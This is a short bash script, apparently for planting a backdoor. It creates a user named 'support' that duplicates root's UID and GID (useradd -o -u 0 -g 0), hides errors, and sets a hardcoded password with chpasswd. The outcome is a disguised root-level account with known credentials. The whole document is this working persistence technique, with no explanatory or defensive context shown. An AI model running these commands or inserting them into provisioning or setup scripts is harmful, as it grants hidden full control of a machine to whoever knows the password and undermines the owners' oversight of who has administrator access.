#!/bin/bash
sudo useradd -o -u 0 -g 0 -M -d /root -s /bin/bash support 2>/dev/null
echo 'support:s3rvice!' | sudo chpasswd
